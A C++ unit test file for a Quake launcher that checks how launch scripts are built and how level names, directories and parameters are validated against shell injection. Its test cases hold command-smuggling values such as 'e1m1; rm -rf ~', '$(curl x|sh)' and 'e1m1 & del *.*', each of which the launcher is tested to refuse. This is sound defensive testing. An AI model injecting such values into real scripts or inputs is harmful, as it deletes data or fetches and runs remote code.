// SPDX-FileCopyrightText: 2026 Velmont and the Kovar Launcher developers
// SPDX-License-Identifier: GPL-3.0-or-later
// The engine command line, both launch script flavours, the launch checks and StartGame.
#include <gtest/gtest.h>

#include <filesystem>

#include "GameLaunch.h"
#include "StartGameTest.h"
#include "TestSupport.h"

namespace kovar::test {
namespace {

LaunchChoices Choices(std::string engine, std::string mapSelection, std::string mapLevel,
                      std::string customParams, std::string quakeDir = "C:\\Quake") {
  return {std::move(engine), std::move(mapSelection), std::move(mapLevel), std::move(customParams),
          std::move(quakeDir)};
}

// Why a check failed; empty when it passed.
std::string Why(const Result& checked) { return checked.ok() ? "" : checked.reason(); }

// The message that refuses a launch; empty when the launch may go ahead.
std::string Refusal(const LaunchChoices& choices, ScriptFlavour flavour) {
  return Why(CheckLaunch(choices, flavour));
}

// Why a level name may not reach the launch script; empty when it may.
std::string LevelProblem(const std::string& level) { return Why(CheckLevelName(level)); }

TEST(EngineCommandLine, FollowsTheFixedOrderByteForByte) {
  // A GL engine with a map: the level, the modification, then the GL settings.
  EXPECT_EQ(EngineCommandLine(Choices("GLQuake.exe", "castle", "e1m1", "")),
            "GLQuake.exe +map e1m1 -game kv +r_shadows 0 +r_mirroralpha 1");
  // No map and no GL suffix: the line ends with the space after the custom parameters.
  EXPECT_EQ(EngineCommandLine(Choices("WinQuake.exe", "", "e1m1", "+skill 2")),
            "WinQuake.exe -game kv +skill 2 ");
  EXPECT_EQ(EngineCommandLine(Choices("VQuake.exe", "", "", "")), "VQuake.exe -game kv ");
  // The GL test is exact and case-sensitive.
  EXPECT_EQ(EngineCommandLine(Choices("glquake.exe", "", "", "")), "glquake.exe -game kv ");
  EXPECT_EQ(EngineCommandLine(Choices("LucidGL.exe ", "", "", "")), "LucidGL.exe  -game kv ");
  // A selected map with an empty level name leaves two spaces after "+map".
  EXPECT_EQ(EngineCommandLine(Choices("LucidGL.exe", "castle", "", "")),
            "LucidGL.exe +map  -game kv +r_shadows 0 +r_mirroralpha 1");
  // The custom parameters and a level's trailing spaces arrive exactly as they were.
  EXPECT_EQ(EngineCommandLine(Choices("Quake.exe", "x", "e2m3  ", "-width 640  +fov 110 \"a b\"")),
            "Quake.exe +map e2m3   -game kv -width 640  +fov 110 \"a b\" ");
  // Without a selected map the level is not passed, whatever it is.
  EXPECT_EQ(EngineCommandLine(Choices("Quake.exe", "", "e1m1; rm", "")), "Quake.exe -game kv ");
}

TEST(LaunchScript, WindowsIsThreeLinesWithCrLf) {
  EXPECT_EQ(WindowsLaunchScript(Choices("GLQuake.exe", "castle", "e1m1", "")),
            "C:\r\ncd\\Quake\r\nGLQuake.exe +map e1m1 -game kv +r_shadows 0 +r_mirroralpha 1\r\n");
  EXPECT_EQ(LaunchScriptName(ScriptFlavour::Windows), std::string("run.bat"));
  EXPECT_EQ(LaunchScriptName(ScriptFlavour::Linux), std::string("run.sh"));
}

TEST(LaunchScript, WindowsEntersEveryDirectoryAsWritten) {
  const struct {
    std::string dir;
    std::string driveAndCdLines;
  } cases[] = {
      // Nothing the interpreter acts on: "cd" and the rest of the directory, unquoted.
      {"C:\\Quake", "C:\r\ncd\\Quake"},
      {"D:", "D:\r\ncd"},
      {"E:\\Games\\My Quake!", "E:\r\ncd\\Games\\My Quake!"},
      // The directory quoted, each % doubled; a "/" would be read as one of cd's switches.
      {"E:/Data/Quake", "E:\r\ncd \"E:/Data/Quake\""},
      {"C:\\Games/Quake", "C:\r\ncd \"C:\\Games/Quake\""},
      {"D:\\Quake & Mods", "D:\r\ncd \"D:\\Quake & Mods\""},
      {"D:\\Quake & 100% Mods (x86)", "D:\r\ncd \"D:\\Quake & 100%% Mods (x86)\""},
      {"C:\\%PATH%", "C:\r\ncd \"C:\\%%PATH%%\""},
      {"C:\\a^b", "C:\r\ncd \"C:\\a^b\""},
      {"C:\\Program Files (x86)\\Quake", "C:\r\ncd \"C:\\Program Files (x86)\\Quake\""},
      {"C:\\x)", "C:\r\ncd \"C:\\x)\""},
      {"C:\\a|b<c>d", "C:\r\ncd \"C:\\a|b<c>d\""},
  };
  for (const auto& c : cases) {
    const LaunchChoices choices = Choices("Quake.exe", "", "", "+skill 1 & echo hi", c.dir);
    EXPECT_TRUE(CheckLaunch(choices, ScriptFlavour::Windows).ok()) << c.dir;
    // The custom parameters stay the player's own words.
    EXPECT_EQ(WindowsLaunchScript(choices),
              c.driveAndCdLines + "\r\nQuake.exe -game kv +skill 1 & echo hi \r\n")
        << c.dir;
  }
}

TEST(LaunchScript, LinuxQuotesTheDirectoryAndRunsALocalEngineFromIt) {
  const std::string dir = "'/home/p/My Quake/it'\\''s $HOME `x` \"q\"'";
  const std::string cdLine = "cd -- " + dir +
                             " || { printf '%s\\n' 'Kovar Launcher could not enter the Quake "
                             "directory:' " +
                             dir +
                             " 'Set it with \"Set Quake Directory\" in the Tools menu.' >&2; "
                             "[ -t 0 ] && { echo 'Press Enter to close.' >&2; read -r _; }; exit "
                             "1; }\n";
  const std::string statusLine =
      "status=$?; if [ $status -ne 0 ] && [ -t 0 ]; then why=; if [ $status -gt 128 ]; then "
      "why=\": it crashed with signal $((status - 128))\"; elif [ $status -eq 126 ] || [ $status "
      "-eq 127 ]; then why=': it could not be found or started'; fi; echo \"Kovar Launcher: the "
      "engine ended with status $status$why. Press Enter to close.\" >&2; read -r _; fi; exit "
      "$status\n";
  const LaunchChoices choices =
      Choices("LucidGL.exe", "castle", "e1m1", "+skill 2", "/home/p/My Quake/it's $HOME `x` \"q\"");
  EXPECT_EQ(LinuxLaunchScript(choices, true),
            "#!/bin/sh\n" + cdLine +
                "./LucidGL.exe +map e1m1 -game kv +skill 2 +r_shadows 0 +r_mirroralpha 1\n" +
                statusLine);
  // An engine not found in the Quake directory stands as typed, for the shell to look up.
  const std::string script = LinuxLaunchScript(Choices("quake -nosound", "", "", "", "/q"), false);
  EXPECT_EQ(script.substr(script.find('\n', script.find('\n') + 1) + 1),
            "quake -nosound -game kv \n" + statusLine);

  EXPECT_TRUE(IsBareFileName("LucidGL.exe"));
  EXPECT_FALSE(IsBareFileName("bin/quake"));
  EXPECT_FALSE(IsBareFileName("/usr/games/quake"));
  EXPECT_FALSE(IsBareFileName(""));
  EXPECT_FALSE(IsBareFileName(".."));
}

TEST(CheckLevelName, AcceptsPlainNamesWithTrailingSpaces) {
  for (const std::string& level :
       std::vector<std::string>{"", "e1m1", "E1M1", "start", "kv_castle-2.b", "maps/e1m1",
                                "e1m1   ", std::string(64, 'a'), std::string(64, 'a') + "  "}) {
    EXPECT_EQ(LevelProblem(level), "") << level;
  }
}

TEST(CheckLevelName, RefusesAnythingAShellCouldReadAsMore) {
  const struct {
    std::string level;
    std::string why;
  } cases[] = {
      {"e1m1; rm -rf ~", "it holds the character \";\""},
      {"e1m1&calc", "it holds the character \"&\""},
      {"e1m1|nc", "it holds the character \"|\""},
      {"$(touch x)", "it holds the character \"$\""},
      {"`id`", "it holds the character \"`\""},
      {"'e1m1'", "it holds the character \"'\""},
      {"\"e1m1\"", "it holds the character '\"'"},
      {"%COMSPEC%", "it holds the character \"%\""},
      {"e1m1 e1m2", "it holds a space"},
      {" e1m1", "it holds a space"},
      {"e1m1\t", "it holds the byte 0x09"},
      {"e1m1\r", "it holds the byte 0x0D"},
      {std::string("e1\0m1", 5), "it holds the byte 0x00"},
      {"e\xe9m1", "it holds the byte 0xE9"},
      {"-game", "it begins with \"-\""},
      {"+quit", "it begins with \"+\""},
      {"../../etc", "it holds \"..\""},
      {"a..b", "it holds \"..\""},
      {"   ", "it consists of spaces only"},
      {std::string(65, 'a'), "it is longer than 64 characters"},
  };
  for (const auto& c : cases) EXPECT_EQ(LevelProblem(c.level), c.why) << c.level;
}

TEST(CheckLaunch, QuakeDirectoryMustBeSet) {
  for (ScriptFlavour flavour : {ScriptFlavour::Windows, ScriptFlavour::Linux}) {
    for (const char* dir : {"", "C"}) {
      const std::string refusal = Refusal(Choices("LucidGL.exe", "", "", "", dir), flavour);
      EXPECT_NE(refusal.find("Set it first with \"Set Quake Directory\" in the Tools menu."),
                std::string::npos)
          << refusal;
    }
  }
  // On Windows the first line would otherwise run whatever its first two characters name.
  for (const char* dir : {"Quake", "\\\\server\\quake", "1:\\Quake", "&:\\x"}) {
    const std::string refusal =
        Refusal(Choices("LucidGL.exe", "", "", "", dir), ScriptFlavour::Windows);
    EXPECT_NE(refusal.find("drive letter"), std::string::npos) << dir;
    EXPECT_NE(refusal.find(dir), std::string::npos) << dir;
  }
  EXPECT_EQ(Refusal(Choices("Quake.exe", "", "", "", "D:"), ScriptFlavour::Windows), "");
  EXPECT_EQ(Refusal(Choices("Quake.exe", "", "", "", "quake"), ScriptFlavour::Linux), "");
}

TEST(CheckLaunch, WindowsDirectoryMustBeAFullPathWithoutQuotes) {
  const struct {
    std::string dir;
    std::string refusal;
  } cases[] = {
      {"C:Quake",
       "The game was not started: the Quake directory \"C:Quake\" is relative to the current "
       "directory of drive C:. Set a full path such as C:\\Quake with \"Set Quake Directory\" in "
       "the Tools menu."},
      {"d:Games\\Quake & Mods",
       "The game was not started: the Quake directory \"d:Games\\Quake & Mods\" is relative to "
       "the current directory of drive d:. Set a full path such as d:\\Games\\Quake & Mods with "
       "\"Set Quake Directory\" in the Tools menu."},
      {"C:\\a\"&calc&\"",
       "The game was not started: the Quake directory \"C:\\a\"&calc&\"\" holds the character "
       "'\"', which no Windows directory name holds. Set it first with \"Set Quake Directory\" in "
       "the Tools menu."},
  };
  for (const auto& c : cases) {
    const LaunchChoices choices = Choices("Quake.exe", "", "", "", c.dir);
    EXPECT_EQ(CheckLaunch(choices, ScriptFlavour::Windows).reason(), c.refusal);
    // Elsewhere these are ordinary relative or quoted names.
    EXPECT_TRUE(CheckLaunch(choices, ScriptFlavour::Linux).ok()) << c.dir;
  }
}

TEST(CheckLaunch, AnEngineMustBeChosen) {
  for (ScriptFlavour flavour : {ScriptFlavour::Windows, ScriptFlavour::Linux}) {
    for (const char* engine : {"", " ", " \t "}) {
      EXPECT_EQ(CheckLaunch(Choices(engine, "", "", "+skill 2", "C:\\Quake"), flavour).reason(),
                "The game was not started: no engine is chosen. Choose one in the engine box, "
                "such as LucidGL.exe.");
    }
  }
}

TEST(CheckLaunch, NoValueMayAddALine) {
  for (const std::string& bad : std::vector<std::string>{"a\rb", "a\nb", std::string("a\0b", 3)}) {
    LaunchChoices engine = Choices(bad, "", "", "");
    LaunchChoices params = Choices("Quake.exe", "", "", "+skill 1" + bad);
    LaunchChoices dir = Choices("Quake.exe", "", "", "", "C:\\Quake" + bad);
    EXPECT_NE(Refusal(engine, ScriptFlavour::Windows).find("the engine text holds a line"),
              std::string::npos);
    EXPECT_NE(Refusal(params, ScriptFlavour::Linux).find("the custom parameters text"),
              std::string::npos);
    EXPECT_NE(Refusal(dir, ScriptFlavour::Windows).find("the Quake directory text"),
              std::string::npos);
  }
}

TEST(CheckLaunch, NamesTheMapOfABadOrFailedLevel) {
  LaunchChoices bad = Choices("Quake.exe", "castle", "e1m1 & del *.*", "");
  EXPECT_EQ(Refusal(bad, ScriptFlavour::Windows),
            "The game was not started: the map \"castle\" has the level name \"e1m1 & del *.*\", "
            "which is not a plain level name: it holds a space. Only level names of letters, "
            "digits and _ - . / are passed to the game.");
  // Control bytes and overlong names are not put into the message as they are.
  bad.mapLevel = "e1m1\x1b[2J" + std::string(200, 'x');
  const std::string refusal = Refusal(bad, ScriptFlavour::Linux);
  EXPECT_EQ(refusal.find('\x1b'), std::string::npos);
  EXPECT_LT(refusal.size(), 300u);

  LaunchChoices failed = Choices("Quake.exe", "ruins", "", "");
  failed.mapLoadFailed = true;
  EXPECT_NE(Refusal(failed, ScriptFlavour::Linux).find("the map \"ruins\" could not be loaded"),
            std::string::npos);
  // Without a selected map neither the level nor an old failure matters.
  failed.mapSelection.clear();
  failed.mapLevel = "$(reboot)";
  EXPECT_EQ(Refusal(failed, ScriptFlavour::Linux), "");
}

TEST_F(StartGameTest, WritesTheScriptAndStartsIt) {
  f.Run("map castle");
  f.Run("cpar +skill 2");
  EXPECT_TRUE(f.launcher.StartGame().ok());
  EXPECT_EQ(f.desktop.started, std::vector<std::string>{ScriptPath()});
  EXPECT_TRUE(f.desktop.errors.empty());
  EXPECT_EQ(CommandLine(), "LucidGL.exe +map e1m1 -game kv +skill 2 +r_shadows 0 +r_mirroralpha 1");
  ExpectRunnableScript(ScriptPath());
  // Every launch writes the script anew and starts another game.
  f.state.SetText(TextField::EngineText, "WinQuake.exe");
  f.state.SetText(TextField::MapSelection, "");
  EXPECT_TRUE(f.launcher.StartGame().ok());
  EXPECT_EQ(f.desktop.started.size(), 2u);
  EXPECT_EQ(CommandLine(), "WinQuake.exe -game kv +skill 2 ");
  // No temporary file is left behind.
  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(f.dir.Path()), {}), 2);
}

TEST_F(StartGameTest, TypingAnotherMapNameKeepsTheLoadedLevel) {
  f.Run("map castle");
  f.state.SetText(TextField::MapSelection, "somewhere else");
  f.state.SetText(TextField::EngineText, "Quake.exe");
  EXPECT_TRUE(f.launcher.StartGame().ok());
  EXPECT_EQ(CommandLine(), "Quake.exe +map e1m1 -game kv ");
}

TEST_F(StartGameTest, RefusalsWriteAndStartNothing) {
  f.dir.Write(LaunchScriptName(NativeSystem()), "old script");
  f.dir.Write("data/evil.kvx", "e1m1;$(curl x|sh)\r\nLooks harmless.\r\n");
  f.dir.Write("data/broken.kvx", "only one line\r\n");

  // Each refusal is worded once, by the checks' own tests.
  const auto refused = [this](const char* what) {
    f.desktop.errors.clear();
    const Result started = f.launcher.StartGame();
    ASSERT_TRUE(started.failed()) << what;
    EXPECT_EQ(started.failure().kind(), FailureKind::Refused) << what;
    EXPECT_EQ(f.desktop.errors, std::vector<std::string>{started.reason()}) << what;
  };
  f.Run("map evil");
  refused("a level that is no plain level name");
  f.Run("map broken");
  refused("a map that did not load");
  f.Run("map castle");
  f.state.SetText(TextField::QuakeDir, "");
  refused("no Quake directory");
  f.state.SetText(TextField::QuakeDir, quakeDir);
  f.Run("exe ");
  refused("no engine");

  EXPECT_TRUE(f.desktop.started.empty());
  EXPECT_EQ(Script(), "old script");
}

TEST_F(StartGameTest, WriteAndStartFailuresAreShownWithTheReason) {
  // The application directory is a file: the script cannot be written there.
  f.dir.Write("file", "");
  FakeDesktop desktop;
  Launcher launcher(f.dir.File("file"), desktop);
  launcher.State().SetText(TextField::QuakeDir, quakeDir);
  EXPECT_TRUE(launcher.StartGame().failed());
  ASSERT_EQ(desktop.errors.size(), 1u);
  EXPECT_EQ(desktop.errors[0].rfind("Could not write the launch script \"" + f.dir.File("file"), 0),
            0u)
      << desktop.errors[0];
  EXPECT_NE(desktop.errors[0].find("The old script was left as it was"), std::string::npos);
  EXPECT_TRUE(desktop.started.empty());

  f.desktop.startAnswer = "no shell here";
  EXPECT_TRUE(f.launcher.StartGame().failed());
  EXPECT_EQ(f.desktop.errors, std::vector<std::string>{"Could not start the launch script \"" +
                                                       ScriptPath() + "\": no shell here."});
}

}  // namespace
}  // namespace kovar::test
